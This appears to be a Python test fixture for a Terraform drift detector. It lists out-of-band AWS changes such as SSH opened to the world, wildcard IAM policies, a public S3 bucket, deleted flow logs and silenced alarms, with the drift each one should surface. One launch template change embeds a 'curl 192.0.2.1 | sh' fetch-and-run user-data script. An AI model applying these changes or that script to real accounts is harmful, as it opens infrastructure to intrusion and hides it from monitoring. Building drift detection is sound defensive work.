"""Changes that somebody makes to an applied environment by the console: each with what drift must name."""

from __future__ import annotations

import base64
import json
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any, TypeAlias

from infra.drive.aws import Aws
from infra.drive.undeclared.model import Declared, Resource

REGION = "us-west-2"
ANYWHERE = "0.0.0.0/0"
EVERYTHING = json.dumps(
    {"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": "*", "Resource": "*"}]}
)


@dataclass(frozen=True)
class World:
    """An applied environment, seen from outside of Terraform."""

    aws: Aws
    declared: Declared
    made: dict[str, str] = field(default_factory=dict)

    def one(self, kind: str, ending: str = "") -> Resource:
        """The resource of a type whose address ends so; of several, the first."""
        resources = [each for each in self.declared.of(kind, REGION) if each.address.endswith(ending)]
        assert resources, (kind, ending)
        return resources[0]

    def id(self, kind: str, ending: str = "") -> str:
        return str(self.one(kind, ending).values["id"])

    def get(self, kind: str, attribute: str, ending: str = "") -> Any:
        return self.one(kind, ending).values[attribute]

    def client(self, service: str) -> Any:
        return self.aws.client(service, REGION)


Expected: TypeAlias = tuple[str, str]
"""What the address has in it, and what is said there: an attribute, ``gone``, part of what is undeclared."""

CHANGES: dict[str, tuple[Callable[[World], object], Expected]] = {}


def behind(address: str, said: str) -> Callable[[Callable[[World], object]], Callable[[World], object]]:
    def keep(change: Callable[[World], object]) -> Callable[[World], object]:
        CHANGES[change.__name__] = (change, (address, said))
        return change

    return keep


def tcp(port: int, block: str) -> list[dict[str, Any]]:
    ranges = [{"CidrIp": block, "Description": "by hand"}]
    return [{"IpProtocol": "tcp", "FromPort": port, "ToPort": port, "IpRanges": ranges}]


# -- The network ------------------------------------------------------------------------------------------


@behind('aws_security_group.this["vpn"]', "ingress tcp 22 from 0.0.0.0/0")
def a_door(world: World) -> object:
    group = world.id("aws_security_group", '.this["vpn"]')
    return world.client("ec2").authorize_security_group_ingress(
        GroupId=group, IpPermissions=tcp(22, ANYWHERE)
    )


@behind('aws_security_group.this["efs"]', "egress tcp 25 to 192.0.2.0/24")
def a_way_out(world: World) -> object:
    group = world.id("aws_security_group", '.this["efs"]')
    return world.client("ec2").authorize_security_group_egress(
        GroupId=group, IpPermissions=tcp(25, "192.0.2.0/24")
    )


@behind('aws_vpc_security_group_ingress_rule.ssh_from["login-1 203.0.113.0/24"]', "cidr_ipv4")
def a_wider_rule(world: World) -> object:
    kind = "aws_vpc_security_group_ingress_rule"
    rule = world.one(kind, '.ssh_from["login-1 203.0.113.0/24"]')
    wider = {"IpProtocol": "tcp", "FromPort": 22, "ToPort": 22, "CidrIpv4": ANYWHERE, "Description": "SSH"}
    return world.client("ec2").modify_security_group_rules(
        GroupId=rule.values["security_group_id"],
        SecurityGroupRules=[{"SecurityGroupRuleId": rule.values["id"], "SecurityGroupRule": wider}],
    )


@behind('aws_vpc_security_group_ingress_rule.group["node-node"]', "gone")
def a_rule_less(world: World) -> object:
    rule = world.one("aws_vpc_security_group_ingress_rule", '.group["node-node"]')
    return world.client("ec2").revoke_security_group_ingress(
        GroupId=rule.values["security_group_id"], SecurityGroupRuleIds=[rule.values["id"]]
    )


@behind("aws_default_security_group.this", "ingress")
def the_default_group(world: World) -> object:
    group = world.id("aws_default_security_group")
    return world.client("ec2").authorize_security_group_ingress(
        GroupId=group, IpPermissions=tcp(80, ANYWHERE)
    )


@behind("aws_default_network_acl.this", "ingress")
def a_network_acl_entry(world: World) -> object:
    return world.client("ec2").create_network_acl_entry(
        NetworkAclId=world.id("aws_default_network_acl"),
        RuleNumber=50,
        Protocol="6",
        PortRange={"From": 22, "To": 22},
        RuleAction="deny",
        Egress=False,
        CidrBlock="198.51.100.0/24",
    )


@behind('aws_subnet.this["private-us-west-2a"]', "network ACL acl-")
def another_network_acl(world: World) -> object:
    ec2 = world.client("ec2")
    vpc, subnet = world.id("aws_vpc"), world.id("aws_subnet", '.this["private-us-west-2a"]')
    acl = ec2.create_network_acl(VpcId=vpc)["NetworkAcl"]["NetworkAclId"]
    acls = ec2.describe_network_acls(Filters=[{"Name": "vpc-id", "Values": [vpc]}])["NetworkAcls"]
    [link] = [each for one in acls for each in one["Associations"] if each["SubnetId"] == subnet]
    return ec2.replace_network_acl_association(
        AssociationId=link["NetworkAclAssociationId"], NetworkAclId=acl
    )


@behind('aws_subnet.this["private-us-west-2a"]', "route table association rtbassoc-")
def a_private_subnet_that_is_public(world: World) -> object:
    return world.client("ec2").replace_route_table_association(
        AssociationId=world.id("aws_route_table_association", '.this["private-us-west-2a"]'),
        RouteTableId=world.id("aws_route_table", '.this["public"]'),
    )


@behind('aws_route_table.this["public"]', "route 192.0.2.0/24 to igw-")
def a_route(world: World) -> object:
    return world.client("ec2").create_route(
        RouteTableId=world.id("aws_route_table", '.this["public"]'),
        DestinationCidrBlock="192.0.2.0/24",
        GatewayId=world.id("aws_internet_gateway"),
    )


@behind("aws_vpc.this", "in the main table rtb-")
def a_route_in_the_main_table(world: World) -> object:
    return world.client("ec2").create_route(
        RouteTableId=world.get("aws_vpc", "main_route_table_id"),
        DestinationCidrBlock=ANYWHERE,
        GatewayId=world.id("aws_internet_gateway"),
    )


@behind('aws_route.nat["us-west-2a"]', "gateway_id")
def a_route_elsewhere(world: World) -> object:
    return world.client("ec2").replace_route(
        RouteTableId=world.id("aws_route_table", '.this["private-us-west-2a"]'),
        DestinationCidrBlock=ANYWHERE,
        GatewayId=world.id("aws_internet_gateway"),
    )


@behind('aws_route.nat["us-west-2b"]', "gone")
def a_route_less(world: World) -> object:
    return world.client("ec2").delete_route(
        RouteTableId=world.id("aws_route_table", '.this["private-us-west-2b"]'),
        DestinationCidrBlock=ANYWHERE,
    )


@behind('aws_route_table.this["public"]', "route propagation of vgw-")
def a_gateway_that_propagates(world: World) -> object:
    ec2 = world.client("ec2")
    gateway = ec2.create_vpn_gateway(Type="ipsec.1")["VpnGateway"]["VpnGatewayId"]
    return ec2.enable_vgw_route_propagation(
        RouteTableId=world.id("aws_route_table", '.this["public"]'), GatewayId=gateway
    )


@behind('aws_subnet.this["private-us-west-2a"]', "map_public_ip_on_launch")
def public_addresses(world: World) -> object:
    return world.client("ec2").modify_subnet_attribute(
        SubnetId=world.id("aws_subnet", '.this["private-us-west-2a"]'), MapPublicIpOnLaunch={"Value": True}
    )


@behind("aws_vpn_connection.this", "VPN route 192.0.2.0/24")
def a_route_over_the_vpn(world: World) -> object:
    return world.client("ec2").create_vpn_connection_route(
        VpnConnectionId=world.id("aws_vpn_connection", '.this["hall-us-west-2"]'),
        DestinationCidrBlock="192.0.2.0/24",
    )


@behind("aws_flow_log.this", "gone")
def no_flow_log(world: World) -> object:
    return world.client("ec2").delete_flow_logs(FlowLogIds=[world.id("aws_flow_log")])


@behind("aws_cloudwatch_metric_alarm.tunnels", "actions_enabled")
def a_silent_alarm(world: World) -> object:
    name = world.get("aws_cloudwatch_metric_alarm", "alarm_name")
    return world.client("cloudwatch").disable_alarm_actions(AlarmNames=[name])


@behind("aws_sns_topic_policy.alarms", "policy")
def a_topic_for_everybody(world: World) -> object:
    topic = world.get("aws_sns_topic", "arn")
    return world.client("sns").set_topic_attributes(
        TopicArn=topic, AttributeName="Policy", AttributeValue=EVERYTHING
    )


@behind("aws_sns_topic_subscription.alarms", "gone")
def a_mail_less(world: World) -> object:
    arn = world.get("aws_sns_topic_subscription", "arn")
    return world.client("sns").unsubscribe(SubscriptionArn=arn)


@behind("aws_cloudwatch_log_group.flow", "retention_in_days")
def logs_for_a_day(world: World) -> object:
    return world.client("logs").put_retention_policy(
        logGroupName=world.get("aws_cloudwatch_log_group", "name"), retentionInDays=1
    )


@behind("aws_cloudwatch_log_group.flow", "metric filter by-hand")
def a_metric_of_flow_logs(world: World) -> object:
    metric = {"metricName": "by-hand", "metricNamespace": "by-hand", "metricValue": "1"}
    return world.client("logs").put_metric_filter(
        logGroupName=world.get("aws_cloudwatch_log_group", "name"),
        filterName="by-hand",
        filterPattern="REJECT",
        metricTransformations=[metric],
    )


@behind('aws_vpc_endpoint.gateway["s3"]', "policy")
def an_endpoint_policy(world: World) -> object:
    return world.client("ec2").modify_vpc_endpoint(
        VpcEndpointId=world.id("aws_vpc_endpoint"),
        PolicyDocument=EVERYTHING.replace('"Allow"', '"Deny", "Principal": "*"'),
    )


# -- Rights -----------------------------------------------------------------------------------------------


@behind('aws_iam_role_policies_exclusive.this["node"]', "policy_names")
def a_policy(world: World) -> object:
    role = world.get("aws_iam_role", "name", '.this["node"]')
    return world.client("iam").put_role_policy(
        RoleName=role, PolicyName="everything", PolicyDocument=EVERYTHING
    )


@behind('aws_iam_role_policy_attachments_exclusive.this["control-plane"]', "policy_arns")
def an_attached_policy(world: World) -> object:
    iam = world.client("iam")
    arn = iam.create_policy(PolicyName="everything", PolicyDocument=EVERYTHING)["Policy"]["Arn"]
    role = world.get("aws_iam_role", "name", '.this["control-plane"]')
    return iam.attach_role_policy(RoleName=role, PolicyArn=arn)


@behind("aws_iam_role_policy.node", "policy")
def a_policy_that_says_more(world: World) -> object:
    policy = world.one("aws_iam_role_policy", ".node")
    return world.client("iam").put_role_policy(
        RoleName=policy.values["role"], PolicyName=policy.values["name"], PolicyDocument=EVERYTHING
    )


@behind('aws_iam_role.this["ssh-node"]', "assume_role_policy")
def who_takes_a_role(world: World) -> object:
    who = {"AWS": "arn:aws:iam::123456789012:root"}
    statement = {"Effect": "Allow", "Action": "sts:AssumeRole", "Principal": who}
    return world.client("iam").update_assume_role_policy(
        RoleName=world.get("aws_iam_role", "name", '.this["ssh-node"]'),
        PolicyDocument=json.dumps({"Version": "2012-10-17", "Statement": [statement]}),
    )


# -- Machines ---------------------------------------------------------------------------------------------


@behind("aws_autoscaling_group.this", "max_size")
def a_larger_group(world: World) -> object:
    name = world.get("aws_autoscaling_group", "name")
    return world.client("autoscaling").update_auto_scaling_group(AutoScalingGroupName=name, MaxSize=40)


@behind("aws_autoscaling_group.this", "scaling policy halve")
def a_scaling_policy(world: World) -> object:
    return world.client("autoscaling").put_scaling_policy(
        AutoScalingGroupName=world.get("aws_autoscaling_group", "name"),
        PolicyName="halve",
        AdjustmentType="PercentChangeInCapacity",
        ScalingAdjustment=-50,
    )


@behind("aws_autoscaling_group.this", "scheduled action night")
def a_scheduled_action(world: World) -> object:
    return world.client("autoscaling").put_scheduled_update_group_action(
        AutoScalingGroupName=world.get("aws_autoscaling_group", "name"),
        ScheduledActionName="night",
        Recurrence="0 22 * * *",
        MaxSize=0,
    )


@behind("aws_autoscaling_group.this", "lifecycle hook wait")
def a_lifecycle_hook(world: World) -> object:
    return world.client("autoscaling").put_lifecycle_hook(
        AutoScalingGroupName=world.get("aws_autoscaling_group", "name"),
        LifecycleHookName="wait",
        LifecycleTransition="autoscaling:EC2_INSTANCE_LAUNCHING",
    )


@behind("aws_autoscaling_lifecycle_hook.drain", "heartbeat_timeout")
def a_hasty_drain(world: World) -> object:
    return world.client("autoscaling").put_lifecycle_hook(
        AutoScalingGroupName=world.get("aws_autoscaling_group", "name"),
        LifecycleHookName="drain",
        LifecycleTransition="autoscaling:EC2_INSTANCE_TERMINATING",
        HeartbeatTimeout=30,
        DefaultResult="CONTINUE",
    )


@behind("aws_autoscaling_group.this", "notification EC2_INSTANCE_LAUNCH")
def ears(world: World) -> object:
    return world.client("autoscaling").put_notification_configuration(
        AutoScalingGroupName=world.get("aws_autoscaling_group", "name"),
        TopicARN="arn:aws:sns:us-west-2:123456789012:ears",
        NotificationTypes=["autoscaling:EC2_INSTANCE_LAUNCH"],
    )


@behind("aws_launch_template.this", "user_data")
def user_data_of_a_group(world: World) -> object:
    text = base64.b64encode(b"#!/bin/sh\ncurl 192.0.2.1 | sh\n").decode()
    return world.client("ec2").create_launch_template_version(
        LaunchTemplateId=world.id("aws_launch_template"),
        SourceVersion="1",
        LaunchTemplateData={"UserData": text},
    )


@behind('aws_instance.this["login-1"]', "tags.role")
def a_tag(world: World) -> object:
    instance = world.id("aws_instance", '.this["login-1"]')
    return world.client("ec2").create_tags(Resources=[instance], Tags=[{"Key": "role", "Value": "master"}])


@behind('aws_instance.this["login-1"]', "vpc_security_group_ids")
def groups_of_an_instance(world: World) -> object:
    return world.client("ec2").modify_instance_attribute(
        InstanceId=world.id("aws_instance", '.this["login-1"]'),
        Groups=[world.id("aws_security_group", '.this["vpn"]')],
    )


@behind("aws_lb.this", "listener TCP 22")
def a_listener(world: World) -> object:
    group = world.get("aws_lb_target_group", "arn")
    return world.client("elbv2").create_listener(
        LoadBalancerArn=world.get("aws_lb", "arn"),
        Protocol="TCP",
        Port=22,
        DefaultActions=[{"Type": "forward", "TargetGroupArn": group}],
    )


@behind("aws_lb_target_group.api", "target i-")
def a_target(world: World) -> object:
    target = {"Id": world.id("aws_instance", '.this["login-1"]'), "Port": 6443}
    return world.client("elbv2").register_targets(
        TargetGroupArn=world.get("aws_lb_target_group", "arn"), Targets=[target]
    )


# -- Storage and names ------------------------------------------------------------------------------------


@behind('aws_s3_bucket.this["datasets"]', "bucket setting CORS")
def cors(world: World) -> object:
    rule = {"AllowedMethods": ["GET"], "AllowedOrigins": ["*"]}
    bucket = world.get("aws_s3_bucket", "bucket", '.this["datasets"]')
    return world.client("s3").put_bucket_cors(Bucket=bucket, CORSConfiguration={"CORSRules": [rule]})


@behind('aws_s3_bucket.this["datasets"]', "bucket setting website")
def a_website(world: World) -> object:
    return world.client("s3").put_bucket_website(
        Bucket=world.get("aws_s3_bucket", "bucket", '.this["datasets"]'),
        WebsiteConfiguration={"IndexDocument": {"Suffix": "index.html"}},
    )


@behind('aws_s3_bucket.this["datasets"]', "bucket inventory everything")
def an_inventory(world: World) -> object:
    return world.client("s3").put_bucket_inventory_configuration(
        Bucket=world.get("aws_s3_bucket", "bucket", '.this["datasets"]'),
        Id="everything",
        InventoryConfiguration=inventory("everything", "somebodys-bucket"),
    )


def inventory(name: str, to: str) -> dict[str, Any]:
    return {
        "Id": name,
        "IsEnabled": True,
        "IncludedObjectVersions": "All",
        "Schedule": {"Frequency": "Daily"},
        "Destination": {"S3BucketDestination": {"Bucket": f"arn:aws:s3:::{to}", "Format": "CSV"}},
    }


@behind('aws_s3_bucket_public_access_block.this["datasets"]', "block_public_policy")
def an_open_bucket(world: World) -> object:
    blocks = ("BlockPublicAcls", "IgnorePublicAcls", "BlockPublicPolicy", "RestrictPublicBuckets")
    return world.client("s3").put_public_access_block(
        Bucket=world.get("aws_s3_bucket", "bucket", '.this["datasets"]'),
        PublicAccessBlockConfiguration=dict.fromkeys(blocks, False),
    )


@behind('aws_s3_bucket_versioning.this["datasets"]', "versioning_configuration[0].status")
def no_versions(world: World) -> object:
    return world.client("s3").put_bucket_versioning(
        Bucket=world.get("aws_s3_bucket", "bucket", '.this["datasets"]'),
        VersioningConfiguration={"Status": "Suspended"},
    )


@behind('aws_efs_file_system_policy.this["home"]', "policy")
def who_may_mount(world: World) -> object:
    statement = {"Effect": "Allow", "Action": "elasticfilesystem:*", "Principal": {"AWS": "*"}}
    return world.client("efs").put_file_system_policy(
        FileSystemId=world.id("aws_efs_file_system"),
        Policy=json.dumps({"Version": "2012-10-17", "Statement": [statement]}),
    )


@behind("aws_route53_zone.private", "record api2.")
def a_record(world: World) -> object:
    zone = world.one("aws_route53_zone")
    record = {
        "Name": f"api2.{zone.values['name']}",
        "Type": "A",
        "TTL": 60,
        "ResourceRecords": [{"Value": "203.0.113.9"}],
    }
    return change_record(world, record)


@behind('aws_route53_record.private["master-1"]', "records")
def a_record_that_says_otherwise(world: World) -> object:
    ours = world.one("aws_route53_record", '.private["master-1"]').values
    values = [{"Value": "203.0.113.9"}]
    record = {"Name": ours["fqdn"], "Type": "A", "TTL": ours["ttl"], "ResourceRecords": values}
    return change_record(world, record)


def change_record(world: World, record: dict[str, Any]) -> object:
    change = {"Action": "UPSERT", "ResourceRecordSet": record}
    return world.client("route53").change_resource_record_sets(
        HostedZoneId=world.get("aws_route53_zone", "zone_id"), ChangeBatch={"Changes": [change]}
    )


@behind("aws_route53_zone.private", "zone association vpc-")
def who_may_ask(world: World) -> object:
    vpc = world.client("ec2").create_vpc(CidrBlock="192.168.0.0/24")["Vpc"]["VpcId"]
    return world.client("route53").associate_vpc_with_hosted_zone(
        HostedZoneId=world.get("aws_route53_zone", "zone_id"), VPC={"VPCRegion": REGION, "VPCId": vpc}
    )
